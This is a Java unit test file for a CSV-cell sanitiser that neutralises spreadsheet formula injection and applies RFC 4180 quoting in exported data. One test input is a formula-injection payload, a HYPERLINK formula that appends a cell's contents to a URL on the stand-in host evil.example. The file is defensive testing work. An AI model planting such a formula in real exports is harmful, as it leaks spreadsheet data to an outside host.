package org.iepservices.rest;

import org.junit.jupiter.api.Test;

import static org.junit.jupiter.api.Assertions.assertEquals;

class CsvCellsTest {

    @Test
    void aCellAFormulaWouldStartWithIsShownAsText() {
        assertEquals("'=1+2", CsvCells.safe("=1+2"));
        assertEquals("'+1", CsvCells.safe("+1"));
        assertEquals("'-1", CsvCells.safe("-1"));
        assertEquals("'@SUM(A1)", CsvCells.safe("@SUM(A1)"));
        assertEquals("'\tcmd", CsvCells.safe("\tcmd"));
        assertEquals("\"'\rcmd\"", CsvCells.safe("\rcmd"));
    }

    @Test
    void theHyperlinkOfTheIssueBecomesTextAndIsQuoted() {
        String purpose = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
        assertEquals("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Open\"\")\"", CsvCells.safe(purpose));
    }

    @Test
    void ordinaryTextIsLeftAloneOrQuotedPerRfc4180() {
        assertEquals("annual review", CsvCells.safe("annual review"));
        assertEquals("", CsvCells.safe(""));
        assertEquals("", CsvCells.safe(null));
        assertEquals("\"Smith, Ann\"", CsvCells.safe("Smith, Ann"));
        assertEquals("\"say \"\"hi\"\"\"", CsvCells.safe("say \"hi\""));
        assertEquals("\"two\nlines\"", CsvCells.safe("two\nlines"));
        assertEquals("a=b", CsvCells.safe("a=b"));
    }

    @Test
    void numbersTheExportComputedKeepTheirSign() {
        assertEquals("-15", CsvCells.cell(-15));
        assertEquals("2.5", CsvCells.cell(2.5));
        assertEquals("'-15", CsvCells.cell("-15"));
        assertEquals("x,-3,'=A1,", CsvCells.row("x", -3, "=A1", null));
    }

    @Test
    void forAPrinterThatQuotesItselfTextIsNeutralisedButNotQuoted() {
        for (String risky : new String[]{"=HYPERLINK(\"http://x\"&A1,\"Open\")", "+1", "-5", "@SUM(A1)", "\tx", "\rx"}) {
            assertEquals("'" + risky, CsvCells.forPrinter(risky));
        }
        assertEquals("a, b", CsvCells.forPrinter("a, b"));
        assertEquals("a=b", CsvCells.forPrinter("a=b"));
        assertEquals("", CsvCells.forPrinter((Object) null));
        assertEquals(-5, CsvCells.forPrinter(-5));
        assertEquals(true, CsvCells.forPrinter(true));
        assertEquals(java.util.List.of("'=1", 2, ""),
                java.util.List.of(CsvCells.forPrinter("=1", 2, null)));
    }
}
